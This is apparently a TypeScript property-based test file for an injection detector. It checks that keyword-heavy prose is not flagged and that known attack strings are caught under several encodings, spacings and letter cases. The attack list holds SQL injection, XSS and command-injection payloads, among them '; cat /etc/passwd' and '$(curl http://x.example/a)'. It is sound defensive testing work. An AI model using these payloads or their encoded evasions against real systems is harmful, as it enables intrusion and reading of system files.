import assert from 'node:assert/strict';
import fc from 'fast-check';
import { describe, it } from 'mocha';
import { judge } from './judge.ts';
import { pathReader, visitStrings } from './json-strings.ts';

const words = fc.constantFrom(
  ...`the a of and or in is like between where group order select table update customer order's agent don't it's they're prices
  drop delete insert create values from members script function alert prompt system exec find cat sort name user table`.split(
    /\s+/,
  ),
);
const stops = fc.constantFrom(' ', ', ', '. ', '? ', '! ', ' -- ', ': ', ' (yes) ', '\n', ' – ');

/** Prose with quotes, English words that are keywords too, and punctuation. */
const prose = fc
  .array(fc.tuple(words, stops), { minLength: 1, maxLength: 60 })
  .map((parts) => parts.map(([word, stop]) => word + stop).join(''));

const nouns = fc.constantFrom(
  ...'agent report query table customer script function alert prompt system date file node python shell union price team'.split(
    ' ',
  ),
);
const said = fc.oneof(
  nouns.map((noun) => `"${noun}"`),
  nouns.map((noun) => `the ${noun}'s`),
  nouns.map((noun) => `our ${noun}s'`),
  fc.tuple(nouns, nouns).map(([first, second]) => `'the ${first} and the ${second}'`),
  nouns.map((noun) => `\`${noun}\``),
  fc.tuple(nouns, nouns).map(([first, second]) => `(${first} or ${second})`),
  fc.constantFrom(
    "don't",
    "O'Brien",
    '{{name}}',
    'f(x)',
    'x = 5',
    'R&D',
    'C++',
    'a > b',
    'https://x.example/a?b=c&d=e',
  ),
);

/** Sentences with quotations, possessives, inline code, templates and small formulas. */
const quotations = fc
  .array(fc.tuple(fc.constantFrom('We like', 'They use', 'Please show', 'It needs', 'Is there'), said), {
    minLength: 1,
    maxLength: 12,
  })
  .map((parts) => parts.map(([lead, what]) => `${lead} ${what}.`).join(' '));

describe('any prose', () => {
  it('is no attack, whatever it quotes', () => {
    fc.assert(
      fc.property(quotations, (text) => {
        assert.equal(judge(text)?.rule, undefined);
      }),
      { seed: 7, numRuns: 1500 },
    );
  });

  it('is no attack, whatever keywords it uses', () => {
    fc.assert(
      fc.property(prose, (text) => {
        assert.equal(judge(text)?.rule, undefined);
      }),
      { seed: 7, numRuns: 1500 },
    );
  });

  it('made of letters, digits and blanks is never looked at twice', () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[\p{L} ]{0,200}$/u), (text) => {
        assert.equal(judge(text), null);
      }),
      { seed: 7, numRuns: 500 },
    );
  });
});

const attack = fc.constantFrom(
  "x' or '1'='1",
  "1' and sleep(5)#",
  '-1 union select 1,2,3',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '; cat /etc/passwd',
  '$(curl http://x.example/a)',
  "x' and json_valid(id) -- -",
  '|| ping -c 3 10.0.0.1',
  '" onfocus=alert(1) autofocus="',
);

const percent = (text: string): string =>
  [...text].map((each) => `%${Buffer.from(each).toString('hex').match(/../g)?.join('%') ?? ''}`).join('');
const references = (text: string): string =>
  text.replace(/[^A-Za-z0-9 ]/g, (each) => `&#${each.codePointAt(0) ?? 0};`);
const escapes = (text: string): string =>
  text.replace(/[^A-Za-z0-9 ]/g, (each) => `\\u${each.charCodeAt(0).toString(16).padStart(4, '0')}`);
const wide = (text: string): string =>
  text.replace(/[!-~]/g, (each) => String.fromCharCode(each.charCodeAt(0) + 0xfee0));
const encoding = fc.constantFrom<(text: string) => string>(percent, references, escapes, wide);

describe('a known attack', () => {
  it('is seen under up to three encodings', () => {
    fc.assert(
      fc.property(attack, fc.array(encoding, { maxLength: 3 }), (value, encodings) => {
        const encoded = encodings.reduce<string>((text, each) => each(text), value);
        assert.ok(judge(encoded) !== null, encoded);
      }),
      { seed: 7, numRuns: 300 },
    );
  });

  it('is seen with other white space and case', () => {
    fc.assert(
      fc.property(
        fc.constantFrom("x' or '1'='1", '-1 union select 1,2,3', "1' and sleep(5)#"),
        fc.array(fc.constantFrom(' ', '\t', '\n', '/**/', '  '), { minLength: 8, maxLength: 8 }),
        fc.array(fc.boolean(), { minLength: 40, maxLength: 40 }),
        (value, blanks, cases) => {
          let blank = 0;
          const spaced = value.replace(/ /g, () => blanks[blank++ % 8] ?? ' ');
          const mixed = [...spaced].map((each, at) => (cases[at % 40] ? each.toUpperCase() : each)).join('');
          assert.ok(judge(mixed) !== null, mixed);
        },
      ),
      { seed: 7, numRuns: 300 },
    );
  });
});

describe('any text at all', () => {
  it('is judged without an error', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (text) => {
        judge(text);
      }),
      { seed: 7, numRuns: 2000 },
    );
  });
});

describe('strings of a JSON text', () => {
  it('are all visited, with their keys and paths', () => {
    fc.assert(
      fc.property(fc.jsonValue({ maxDepth: 4 }), (value) => {
        const text = JSON.stringify(value);
        const seen: string[] = [];
        visitStrings(Buffer.from(text), 'all', (each) => {
          seen.push(each);
          return false;
        });
        assert.deepEqual(seen.sort(), stringsOf(value).sort());
      }),
      { seed: 7, numRuns: 300 },
    );
  });

  it('tell their path', () => {
    const text = '{"a":{"b":["x",{"c":"y"}],"d":"z"},"e":"w"}';
    const pathAt = pathReader(Buffer.from(text));
    const paths = ['"x"', '"y"', '"z"', '"w"'].map((each) => pathAt(text.indexOf(each)));
    assert.deepEqual(paths, ['a.b.*', 'a.b.*.c', 'a.d', 'e']);
  });
});

function stringsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(stringsOf);
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, each]) => [key, ...stringsOf(each)]);
}
